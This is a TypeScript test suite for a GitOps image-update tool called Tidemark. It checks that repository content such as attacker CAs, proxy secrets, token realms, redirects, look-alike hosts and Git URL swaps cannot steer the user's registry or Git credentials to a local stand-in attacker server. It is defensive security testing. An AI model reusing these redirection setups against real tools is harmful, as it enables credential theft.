/**
 * A repository is input: what its objects say may not make Tidemark hand its user's credentials
 * to a server of the repository's choice. Only `--trust-tree` allows that.
 */
import assert from 'node:assert/strict'
import { lookup } from 'node:dns/promises'
import { writeFileSync } from 'node:fs'
import type { ServerResponse } from 'node:http'
import { hostname } from 'node:os'
import path from 'node:path'
import { type TestContext, test } from 'node:test'

import { type AppTree, appTree } from './parts/app-tree.ts'
import { type Attacker, startAttacker } from './parts/attacker.ts'
import { basic, startGitHost } from './parts/git-host.ts'
import { assertNoSecret } from './parts/guide.ts'
import { backendPath, skipWithout } from './parts/programs.ts'
import { dockerConfig, pullSecret } from './parts/pull-secret.ts'
import type { Ended } from './parts/run.ts'
import { tidemark } from './parts/tidemark.ts'
import { type Files, fill, workTree } from './parts/work-tree.ts'

const skip = skipWithout('git', backendPath, 'openssl')

/** What the user has for the registry, and what the tree would like to see. */
const ambient = { username: 'una', password: 'ambient-secret-c3f0' }
const gitLogin = { username: 'una', password: 'git-secret-9e21' }

type Run = { readonly ended: Ended; readonly knows: boolean }

/** Updates a folder with a docker config for `registry`; says whether the attacker now knows it. */
async function run(
  t: TestContext,
  { attacker, registry, tree, flags }: Attack & { readonly flags: readonly string[] },
): Promise<Run> {
  const root = await workTree(t, appTree(tree))
  const command = tidemark(t)
  const file = path.join(command.home, 'config.json')
  writeFileSync(file, dockerConfig(registry, ambient))
  const ended = await command(['update', '--path', root, '--docker-config', file, ...flags])
  assertNoSecret(ended, [ambient.password])
  return { ended, knows: attacker.knows(ambient.password) }
}

type Attack = {
  readonly attacker: Attacker
  /** The server that the image names, when that is not the attacker's own. */
  readonly named?: Attacker
  /** The host of the docker config's credential. */
  readonly registry: string
  readonly tree: AppTree
}

type Row = {
  readonly name: string
  readonly skip?: string
  prepare(t: TestContext): Promise<Attack>
}

const manifest = (kind: string, name: string, rest: string) =>
  `apiVersion: v1\nkind: ${kind}\nmetadata: {name: ${name}, namespace: flux-system}\n${rest}`
const indented = (text: string) => text.trimEnd().replaceAll('\n', '\n    ')

/** A name of this machine that, unlike `localhost`, is not allowed plain HTTP by itself. */
const plainName = await namedLoopback([hostname(), 'ip6-localhost', 'ip6-loopback'])

const trustRows: readonly Row[] = [
  {
    name: 'certSecretRef with a CA of the attacker',
    async prepare(t) {
      const attacker = await startAttacker(t, { tls: true })
      const ca = manifest(
        'Secret',
        'ca',
        `stringData:\n  ca.crt: |\n    ${indented(attacker.ca ?? '')}\n`,
      )
      const tree = {
        image: `${attacker.host}/org/app`,
        scan: ['certSecretRef: {name: ca}'],
        also: { 'flux/ca.yaml': ca },
      }
      return { attacker, registry: attacker.host, tree }
    },
  },
  {
    name: 'proxySecretRef with a proxy of the attacker',
    async prepare(t) {
      const attacker = await startAttacker(t)
      const registry = '127.0.0.1:9'
      const proxy = manifest(
        'Secret',
        'proxy',
        `stringData: {address: "http://${attacker.host}"}\n`,
      )
      const tree = {
        image: `${registry}/org/app`,
        scan: ['proxySecretRef: {name: proxy}'],
        also: { 'flux/proxy.yaml': proxy },
      }
      return { attacker, registry, tree }
    },
  },
  {
    name: 'insecure: true for a host that has TLS',
    ...(plainName === undefined ? { skip: 'no second name of loopback in /etc/hosts' } : {}),
    async prepare(t) {
      const { name, address } = plainName ?? { name: '', address: '' }
      const attacker = await startAttacker(t, { address })
      const registry = `${name}:${attacker.host.split(':')[1]}`
      const tree = { image: `${registry}/org/app`, scan: ['insecure: true'] }
      return { attacker, registry, tree }
    },
  },
]

for (const row of trustRows) {
  const skipped = skip || row.skip || false
  test(`hostile tree: ${row.name}`, { skip: skipped }, async (t) => {
    const careful = await run(t, { ...(await row.prepare(t)), flags: [] })
    assert.equal(careful.knows, false)
    assert.equal(careful.ended.code, 1)

    const trusting = await run(t, { ...(await row.prepare(t)), flags: ['--trust-tree'] })
    assert.equal(trusting.knows, true, trusting.ended.stderr)
    assert.equal(trusting.ended.code, 0, trusting.ended.stderr)
  })

  test(`hostile tree: ${row.name}: said`, { skip: skipped }, async (t) => {
    const { ended } = await run(t, { ...(await row.prepare(t)), flags: [] })
    assert.match(ended.stderr, /--trust-tree/)
  })
}

const neverRows: readonly Row[] = [
  {
    name: 'a token realm on another host',
    async prepare(t) {
      const attacker = await startAttacker(t)
      const challenge = `Bearer realm="http://${attacker.host}/token",service="x"`
      const registry = await startAttacker(t, {
        answer: (_, response) => {
          response.writeHead(401, { 'www-authenticate': challenge }).end()
          return true
        },
      })
      return misled(attacker, registry)
    },
  },
  {
    name: 'a redirect of the tag list to another host',
    prepare: (t) =>
      misleadingTags(t, ({ host }, url, response) => {
        response.writeHead(307, { location: `http://${host}${url}` }).end()
      }),
  },
  {
    name: 'a next page on another host',
    prepare: (t) =>
      misleadingTags(t, ({ host }, url, response) => {
        const link = `<http://${host}${url}&last=1.0.0>; rel="next"`
        response.writeHead(200, { 'content-type': 'application/json', link })
        response.end('{"name":"org/app","tags":["1.0.0"]}')
      }),
  },
  {
    name: 'an image at a host that only looks like the user’s',
    async prepare(t) {
      const attacker = await startAttacker(t)
      const registry = attacker.host.slice(0, -1) // the user's port is the beginning of this one
      return { attacker, registry, tree: { image: `${attacker.host}/org/app` } }
    },
  },
]

/** A registry that, once it is shown a credential, answers a question for tags as given. */
async function misleadingTags(
  t: TestContext,
  answer: (attacker: Attacker, url: string, response: ServerResponse) => void,
): Promise<Attack> {
  const attacker = await startAttacker(t)
  const registry = await startAttacker(t, {
    answer: ({ url = '', headers }, response) => {
      if (!url.includes('/tags/list') || headers.authorization === undefined) return false
      answer(attacker, url, response)
      return true
    },
  })
  return misled(attacker, registry)
}

/** An honest image name whose registry sends its callers on to the attacker. */
function misled(attacker: Attacker, named: Attacker): Attack {
  return { attacker, named, registry: named.host, tree: { image: `${named.host}/org/app` } }
}

for (const row of neverRows)
  for (const flags of [[], ['--trust-tree']])
    test(`hostile tree: ${[row.name, ...flags].join(', ')}`, { skip }, async (t) => {
      const attack = await row.prepare(t)
      const { knows, ended } = await run(t, { ...attack, flags })
      assert.equal(knows, false)
      const reached = attack.named ?? attack.attacker
      assert.ok(reached.lines.length > 0, `went as far as the trap: ${ended.stderr}`)
    })

test('hostile tree: a --secret goes to its own host alone', { skip }, async (t) => {
  const attacker = await startAttacker(t)
  const tree = { image: `${attacker.host}/org/app`, scan: ['secretRef: {name: pull}'] }
  const root = await workTree(t, appTree(tree))
  const command = tidemark(t)
  const file = path.join(command.home, 'pull.yaml')
  writeFileSync(file, pullSecret('pull', 'registry.example.com', ambient))
  const ended = await command([
    'update',
    '--path',
    root,
    '--secret',
    `pull=${file}`,
    '--trust-tree',
  ])
  assert.ok(attacker.lines.length > 0, ended.stderr)
  assert.equal(attacker.knows(ambient.password), false)
})

test('hostile tree: a --secret over a CA of the tree', { skip }, async (t) => {
  for (const flags of [[], ['--trust-tree']]) {
    const attacker = await startAttacker(t, { tls: true })
    const ca = manifest(
      'Secret',
      'ca',
      `stringData:\n  ca.crt: |\n    ${indented(attacker.ca ?? '')}\n`,
    )
    const tree = {
      image: `${attacker.host}/org/app`,
      scan: ['secretRef: {name: pull}', 'certSecretRef: {name: ca}'],
      also: { 'flux/ca.yaml': ca },
    }
    const root = await workTree(t, appTree(tree))
    const command = tidemark(t)
    const file = path.join(command.home, 'pull.yaml')
    writeFileSync(file, pullSecret('pull', attacker.host, ambient))
    const ended = await command(['update', '--path', root, '--secret', `pull=${file}`, ...flags])
    assertNoSecret(ended, [ambient.password])
    assert.equal(attacker.knows(ambient.password), flags.length > 0, ended.stderr)
  }
})

/** A tree whose GitRepository names the attacker's host. */
function strangeSource(attacker: Attacker): Files {
  return appTree({ image: '127.0.0.1:1/org/app', gitUrl: `http://${attacker.host}/org/fleet.git` })
}

test('hostile tree: a Git URL of the tree, in a folder', { skip }, async (t) => {
  const attacker = await startAttacker(t)
  const root = await workTree(t, strangeSource(attacker))
  const set = ['--set', 'flux-system:app=127.0.0.1:1/org/app:1.5.0']
  const env = { GIT_PASSWORD: gitLogin.password, GIT_TOKEN: gitLogin.password }
  const flags = ['update', '--path', root, '--push', '--git-username', gitLogin.username]
  const ended = await tidemark(t)([...flags, ...set], { env })
  assertNoSecret(ended, [gitLogin.password])
  assert.equal(attacker.knows(gitLogin.password), false)
})

test('hostile tree: a Git URL of the tree, with --repo', { skip }, async (t) => {
  const attacker = await startAttacker(t)
  const host = await startGitHost(t, gitLogin)
  const bare = await host.create('org/fleet')
  await fill(t, bare, strangeSource(attacker))
  const set = ['--set', 'flux-system:app=127.0.0.1:1/org/app:1.5.0']
  const env = { GIT_PASSWORD: gitLogin.password }
  const flags = ['update', '--repo', bare.url, '--push', '--git-username', gitLogin.username]
  const ended = await tidemark(t)([...flags, ...set], { env })
  assertNoSecret(ended, [gitLogin.password])
  assert.equal(attacker.knows(gitLogin.password), false)
  assert.ok(
    host.requests.some(({ authorization }) => authorization === basic(gitLogin)),
    ended.stderr,
  )
})

test('hostile tree: a token of this machine, by a provider that the tree names', {
  skip,
}, async (t) => {
  const token = 'azure-token-77d1'
  const entra = await startAttacker(t, {
    answer: (_, response) => {
      response.end(JSON.stringify({ access_token: token, expires_in: 3600 }))
      return true
    },
  })
  const host = await startGitHost(t, gitLogin)
  const bare = await host.create('org/fleet')
  const files = appTree({ image: '127.0.0.1:1/org/app', gitUrl: bare.url })
  const { 'flux/automation.yaml': automation = '' } = files
  const azure = automation.replace('  url:', '  provider: azure\n  url:')
  await fill(t, bare, { ...files, 'flux/automation.yaml': azure })
  const env = {
    GIT_PASSWORD: gitLogin.password,
    AZURE_TENANT_ID: 't',
    AZURE_CLIENT_ID: 'c',
    AZURE_CLIENT_SECRET: 'hush-hush',
    AZURE_AUTHORITY_HOST: `http://${entra.host}`,
  }
  const set = ['--set', 'flux-system:app=127.0.0.1:1/org/app:1.5.0']
  for (const flags of [[], ['--trust-tree']]) {
    const own = ['update', '--repo', bare.url, '--git-username', gitLogin.username]
    const ended = await tidemark(t)([...own, ...set, ...flags], { env })
    assertNoSecret(ended, [token, env.AZURE_CLIENT_SECRET])
    assert.equal(ended.code, 1)
    assert.match(ended.stderr, /provider 'azure' sends a token over https alone/)
    assert.deepEqual(entra.lines, [])
  }
})

/** Pushes through a proxy that the tree names. */
async function pushByProxy(
  t: TestContext,
  flags: readonly string[],
): Promise<{ ended: Ended; attacker: Attacker }> {
  const attacker = await startAttacker(t)
  const host = await startGitHost(t, gitLogin)
  const bare = await host.create('org/fleet')
  const address = `stringData: {address: "http://${attacker.host}"}\n`
  const files = appTree({ image: '127.0.0.1:1/org/app', gitUrl: bare.url })
  const { 'flux/automation.yaml': automation = '' } = files
  await fill(t, bare, {
    ...files,
    'flux/proxy.yaml': manifest('Secret', 'proxy', address),
    'flux/automation.yaml': automation.replace('  url:', '  proxySecretRef: {name: proxy}\n  url:'),
  })
  const set = ['--set', 'flux-system:app=127.0.0.1:1/org/app:1.5.0']
  const env = { GIT_PASSWORD: gitLogin.password }
  const own = ['update', '--repo', bare.url, '--push', '--git-username', gitLogin.username]
  const ended = await tidemark(t)([...own, ...set, ...flags], { env })
  assertNoSecret(ended, [gitLogin.password])
  assert.equal(ended.code, 1)
  assert.ok(attacker.lines.length > 0, ended.stderr)
  return { ended, attacker }
}

test('hostile tree: a proxy for the Git host', { skip }, async (t) => {
  const careful = await pushByProxy(t, [])
  assert.equal(careful.attacker.knows(gitLogin.password), false)
  const trusting = await pushByProxy(t, ['--trust-tree'])
  assert.equal(trusting.attacker.knows(gitLogin.password), true, trusting.ended.stderr)
})

test('hostile tree: a proxy for the Git host: said', { skip }, async (t) => {
  const { ended } = await pushByProxy(t, [])
  assert.match(ended.stderr, /--trust-tree/)
})

test('hostile host: a Git repository that moved elsewhere', { skip }, async (t) => {
  const attacker = await startAttacker(t)
  const mover = await startAttacker(t, {
    answer: ({ url = '' }, response) => {
      response.writeHead(301, { location: `http://${attacker.host}${url}` }).end()
      return true
    },
  })
  const flags = ['--repo', `http://${mover.host}/org/fleet.git`, '--git-username', 'una', '--push']
  for (const env of [{ GIT_PASSWORD: gitLogin.password }, { GIT_TOKEN: gitLogin.password }]) {
    const own =
      'GIT_TOKEN' in env ? flags.filter((flag) => !/^(--git-username|una)$/.test(flag)) : flags
    const ended = await tidemark(t)(['update', ...own], { env })
    assert.equal(ended.code, 1)
    assert.ok(mover.lines.length > 0, ended.stderr)
    assert.equal(attacker.knows(gitLogin.password), false)
    assertNoSecret(ended, [gitLogin.password])
  }
})

async function namedLoopback(
  names: readonly string[],
): Promise<{ name: string; address: string } | undefined> {
  for (const name of names) {
    const { address } = await lookup(name).catch(() => ({ address: '' }))
    if (address.startsWith('127.') || address === '::1') return { name, address }
  }
  process.stderr.write('SKIPPED hostile-tree: no second name of loopback in /etc/hosts\n')
  return undefined
}
